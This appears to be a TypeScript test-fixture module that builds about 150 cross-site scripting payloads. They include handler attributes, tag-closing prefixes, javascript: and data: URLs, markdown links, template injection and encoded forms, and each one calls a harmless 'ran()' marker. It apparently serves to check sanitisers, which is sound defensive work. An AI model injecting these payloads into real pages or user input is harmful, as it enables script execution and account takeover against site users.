// What browsers have been made to run: markup that closes what it stands in, handlers, addresses, templates.
const RUN = 'ran()'
export const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
]
const OPENERS = ['', '">', "'>", '-->', '</title>', '</textarea>', '</style>', '</script>', ']]>']
const markup = (handler: string): readonly string[] => [
  `<img src=x ${handler}=${RUN}>`,
  `<svg ${handler}=${RUN} autofocus tabindex=0>`,
]
const WHOLE = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<a href="javascript:${RUN}">open</a>`,
  `[open](javascript:${RUN})`,
  `![open](javascript:${RUN})`,
  `[open](data:text/html,<script>${RUN}</script>)`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<base href="//127.0.0.1:9/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<style>@import "data:text/css,*{color:red}"</style>`,
  `<details open ontoggle=${RUN}>`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `"autofocus onfocus=${RUN} x="`,
  `\u202e<img src=x onerror=${RUN}>`,
]
/** More than 150 texts, each of which would call `ran` where a page takes it for more than text. */
export const PAYLOADS: readonly string[] = [
  ...WHOLE,
  ...OPENERS.flatMap((opener) => HANDLERS.flatMap(markup).map((one) => `${opener}${one}`)),
]
